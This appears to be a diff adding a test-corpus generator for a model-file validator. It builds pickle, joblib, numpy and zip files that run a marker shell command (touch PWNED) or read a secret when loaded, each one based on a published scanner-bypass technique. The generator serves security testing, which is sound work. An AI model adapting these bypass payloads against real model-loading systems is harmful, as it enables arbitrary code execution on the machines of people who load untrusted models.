@@ -1,0 +1,164 @@
+"""The hostile corpus: one file per bypass class of issue 13, each built from a published
+advisory or scanner bypass (the `source` of each entry). Every file, loaded by its real
+loader, creates the file PWNED in the working directory (or reads a secret it should not);
+test/corpus/prove.py does that in a sandbox, and the test asserts validate-model refuses
+each one.
+
+    /usr/bin/python3 test/corpus/hostile.py <dir>   # writes the files and manifest.json
+"""
+import io
+import json
+import os
+import struct
+import sys
+import zipfile
+
+import numpy as np
+
+out = sys.argv[1]
+os.makedirs(out, exist_ok=True)
+manifest = []
+
+
+def add(name, data, loader, klass, source, proof="marker"):
+    path = os.path.join(out, name)
+    if isinstance(data, bytes):
+        with open(path, "wb") as f:
+            f.write(data)
+    manifest.append({"file": name, "loader": loader, "class": klass, "source": source, "proof": proof})
+
+
+# --- A tiny pickle assembler (opcodes of Lib/pickle.py) -------------------------------------
+def uni(s):  # SHORT_BINUNICODE
+    b = s.encode()
+    return b"\x8c" + bytes([len(b)]) + b
+
+
+def string0(s):  # protocol 0 STRING with a repr-like argument
+    return b"S" + s.encode() + b"\n"
+
+
+PROTO = lambda n: b"\x80" + bytes([n])  # noqa: E731
+STOP, REDUCE, TUPLE1, TUPLE2, STACK_GLOBAL, MEMOIZE, EMPTY_TUPLE = b".", b"R", b"\x85", b"\x86", b"\x93", b"\x94", b")"
+MARK, TUPLE, BUILD, NEWOBJ, EMPTY_DICT, SETITEMS, POP = b"(", b"t", b"b", b"\x81", b"}", b"u", b"0"
+SHELL = "touch PWNED"
+EXEC = "open('PWNED', 'w').close()"
+
+
+def glob(module, name):  # protocol 0 GLOBAL
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def call1(callee, arg):
+    return callee + arg + TUPLE1 + REDUCE
+
+
+# 1. Prefix trust: a dotted protocol 4 name that starts at an allowed module and walks to exec.
+#    Source: picklescan GHSA-jgw4-cr84-mqxg / issue 13 (`sklearn.base` + `np.testing...`).
+add("prefix_walk.pkl",
+    PROTO(4) + uni("sklearn.base") + uni("np.testing._private.utils.runstring") + STACK_GLOBAL
+    + uni(EXEC) + EMPTY_DICT + TUPLE2 + REDUCE + STOP,
+    "pickle", "prefix trust", "picklescan GHSA-jgw4-cr84-mqxg; issue 13 (sklearn.base + np.testing._private.utils.runstring)")
+
+# 1b. An allowed library function that unpickles nested bytes: pandas.compat.pickle_compat.loads.
+inner = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
+add("nested_pickle_compat.pkl",
+    PROTO(2) + glob("pandas.compat.pickle_compat", "loads") + b"C" + bytes([len(inner)]) + inner + TUPLE1 + REDUCE + STOP,
+    "pickle", "prefix trust", "issue 13 (pandas.compat.pickle_compat.loads unpickles nested bytes); fickling's nested-pickle analysis")
+
+# 1c. A method of an allowed class that writes a file: numpy.ndarray.tofile by dotted qualname.
+add("method_writes.pkl",
+    PROTO(4) + uni("numpy") + uni("ndarray.tofile") + STACK_GLOBAL
+    + uni("numpy") + uni("zeros") + STACK_GLOBAL + b"K\x01" + TUPLE1 + REDUCE
+    + uni("PWNED") + TUPLE2 + REDUCE + STOP,
+    "pickle", "prefix trust", "issue 13 (methods of allowed classes that write files)")
+
+# 1d. pkgutil.resolve_name reaches any callable by name (missing from the old denylist).
+add("resolve_name.pkl",
+    PROTO(2) + call1(glob("pkgutil", "resolve_name"), string0(repr("os:system"))) + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
+    "pickle", "denylist gap", "issue 13 (pkgutil.resolve_name); picklescan resolves names the same way")
+
+# 2a. Parser differential: INT text `1_0` is ten to CPython (memo key), one to a parseInt.
+add("memo_underscore.pkl",
+    string0(repr("collections")) + b"p1\n" + POP
+    + string0(repr("os")) + b"p10\n" + POP
+    + b"g1_0\n" + string0(repr("system")) + STACK_GLOBAL + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
+    "pickle", "parser differential", "issue 13 (int() accepts 1_0: memo keys read differently)")
+
+# 2b. STRING escapes include octal: 'o\163' is 'os'.
+add("string_octal.pkl",
+    b"S'o\\163'\n" + b"S'system'\n" + STACK_GLOBAL + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
+    "pickle", "parser differential", "issue 13 (STRING escapes include octal); CPython PyBytes_DecodeEscape")
+
+# 2c. Protocol 2 remaps Python 2 names (_compat_pickle): urllib.urlopen is urllib.request.urlopen.
+add("compat_urlopen.pkl",
+    PROTO(2) + call1(glob("urllib", "urlopen"), string0(repr("file:///proc/self/cwd/SECRET"))) + STOP,
+    "pickle", "parser differential", "issue 13 (protocol 2 remaps Python 2 names, Lib/_compat_pickle.py)", proof="secret")
+
+# 2d. A dict's last duplicate key wins: joblib's wrapper says uint8 first, object last.
+payload = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
+NEWFALSE, NEWTRUE, TUPLE3 = b"\x89", b"\x88", b"\x87"
+dtype_u1 = glob("numpy", "dtype") + string0(repr("u1")) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
+dtype_o = glob("numpy", "dtype") + string0(repr("O")) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
+state = (EMPTY_DICT + MARK
+         + string0(repr("subclass")) + glob("numpy", "ndarray")
+         + string0(repr("shape")) + b"K" + bytes([len(payload)]) + TUPLE1
+         + string0(repr("order")) + string0(repr("C"))
+         + string0(repr("dtype")) + dtype_u1
+         + string0(repr("allow_mmap")) + NEWFALSE
+         + string0(repr("dtype")) + dtype_o
+         + SETITEMS)
+add("joblib_duplicate_key.joblib",
+    PROTO(2) + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD + payload + STOP,
+    "joblib", "parser differential", "issue 13 (a dict's last duplicate key wins); joblib/numpy_pickle.py NumpyArrayWrapper.read")
+
+# 2e. numpy's descr accepts 'object': an object array the header does not spell as '|O'.
+def npy(descr, data):
+    header = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
+    header = header.ljust(((len(header) + 11) // 64 + 1) * 64 - 11) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data
+
+
+object_payload = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
+add("descr_object.npy", npy("'object'", object_payload), "numpy", "parser differential",
+    "issue 13 (numpy's descr accepts 'object'); numpy/lib/format.py descr_to_dtype")
+add("descr_escaped.npy", npy("'\\x4f'", object_payload), "numpy", "parser differential",
+    "issue 13 (escaped spellings of 'O'); ast.literal_eval decodes escapes")
+
+# 3a. A zip with config.json is not necessarily Keras: a pickle beside it is still loaded.
+buffer = io.BytesIO()
+with zipfile.ZipFile(buffer, "w") as z:
+    z.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": []}}))
+    z.writestr("metadata.json", "{}")
+    z.writestr("payload.pkl", payload)
+add("keras_lookalike.zip", buffer.getvalue(), "zip-member:payload.pkl", "container routing",
+    "issue 13 (a zip with config.json is not necessarily Keras)")
+
+# 3b. torch's archive folder is named after the file: data.pt holds data/data.pkl.
+buffer = io.BytesIO()
+with zipfile.ZipFile(buffer, "w") as z:
+    z.writestr("data/data.pkl", payload)
+    z.writestr("data/version", "3\n")
+add("data.pt", buffer.getvalue(), "zip-member:data/data.pkl", "container routing",
+    "issue 13 (torch zip archive folder named after the file: data.pt -> data/data.pkl); torch/serialization.py")
+
+# 3c. .npz members need no .npy suffix: np.load(...)['arr'] reads an object array.
+buffer = io.BytesIO()
+with zipfile.ZipFile(buffer, "w") as z:
+    z.writestr("arr", npy("'|O'", object_payload))
+add("suffixless.npz", buffer.getvalue(), "npz:arr", "container routing",
+    "issue 13 (.npz members need no .npy suffix); numpy/lib/npyio.py NpzFile.__getitem__")
+
+# 3d. Python's zipfile returns the last of duplicate names.
+buffer = io.BytesIO()
+with zipfile.ZipFile(buffer, "w") as z:
+    z.writestr("model.pkl", PROTO(2) + b"N" + STOP)
+    with __import__("warnings").catch_warnings():
+        __import__("warnings").simplefilter("ignore")
+        z.writestr("model.pkl", payload)
+add("duplicate_names.zip", buffer.getvalue(), "zip-member:model.pkl", "container routing",
+    "issue 13 (zipfile returns the last of duplicate names); zip parser differentials")
+
+with open(os.path.join(out, "manifest.json"), "w") as f:
+    json.dump(manifest, f, indent=1)
+print(len(manifest))
